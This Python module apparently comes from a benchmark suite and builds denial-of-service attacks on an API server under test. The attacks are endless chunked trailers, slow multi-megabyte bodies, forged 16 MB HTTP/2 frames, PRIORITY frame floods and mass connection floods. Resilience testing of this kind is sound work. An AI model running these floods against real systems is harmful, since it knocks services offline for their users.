"""Attacks on memory by clients that do not sign in, and floods of cheap requests and frames."""

from __future__ import annotations

import struct
from collections.abc import Awaitable, Callable

import trio

from benchmarks.attacks.target import ADMIN, NOBODY, Target, head, many

Attack = Callable[[Target], Awaitable[None]]
PATH = "/api/v1/namespaces/default/configmaps"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">I", 0)[1:] + b"\x04\x00" + bytes(4)
MB = 1024 * 1024


async def _send_until_closed(stream: trio.SocketStream, data: bytes) -> None:
    try:
        while True:
            await stream.send_all(data)
    except (trio.BrokenResourceError, trio.ClosedResourceError):
        pass


async def _several(target: Target, count: int, one: Callable[[Target], Awaitable[None]]) -> None:
    async with trio.open_nursery() as nursery:
        for _ in range(count):
            nursery.start_soon(_again, target, one)
        await target.over()
        nursery.cancel_scope.cancel()


async def _again(target: Target, one: Callable[[Target], Awaitable[None]]) -> None:
    while True:
        try:
            await one(target)
        except (trio.BrokenResourceError, OSError):
            pass
        await trio.sleep(0.05)


async def _endless_trailers(target: Target) -> None:
    async with await target.connect() as stream:
        start = head("POST", PATH, "Transfer-Encoding: chunked", token="")
        await stream.send_all(start + b"2\r\n{}\r\n0\r\n")
        block = b"".join(b"T%06d: %s\r\n" % (i, b"x" * 100) for i in range(500))
        await _send_until_closed(stream, block)


def _slow_body(token: str) -> Callable[[Target], Awaitable[None]]:
    async def attack(target: Target) -> None:
        async with await target.connect() as stream:
            await stream.send_all(head("POST", PATH, token=token, length=3 * MB))
            sent = 0
            while sent < 3 * MB - 64 * 1024:
                await stream.send_all(b" " * 65536)
                sent += 65536
            await trio.sleep_forever()

    return attack


async def _large_frame(target: Target) -> None:
    """A DATA frame of 16 MB, as its head says."""
    async with await target.connect() as stream:
        await stream.send_all(
            PREFACE + struct.pack(">I", 16 * MB - 1)[1:] + b"\x00\x00" + struct.pack(">I", 1)
        )
        await _send_until_closed(stream, bytes(65536))


async def _priorities(target: Target) -> None:
    async with await target.connect() as stream:
        frame = b"\x00\x00\x05\x02\x00" + struct.pack(">IIB", 3, 1, 16)
        await stream.send_all(PREFACE)
        await _send_until_closed(stream, frame * 1000)


def _repeated(count: int, one: Callable[[Target], Awaitable[None]]) -> Attack:
    async def attack(target: Target) -> None:
        await _several(target, count, one)

    return attack


def _flood(token: str, connections: int) -> Attack:
    async def attack(target: Target) -> None:
        await many(target, connections, head("GET", f"{PATH}/victim", token=token))

    return attack


UNAUTHENTICATED: dict[str, Attack] = {
    "endless trailers": _repeated(4, _endless_trailers),
    "300 bodies of 3 MiB by unauthenticated clients": _repeated(300, _slow_body("")),
    "300 bodies of 3 MiB by a user": _repeated(300, _slow_body(ADMIN)),
    "300 bodies of 3 MiB by a user without rights": _repeated(300, _slow_body(NOBODY)),
    "40 HTTP/2 frames of 16 MB": _repeated(40, _large_frame),
    "PRIORITY floods": _repeated(8, _priorities),
    "gets on 500 connections by a user without rights": _flood(NOBODY, 500),
}
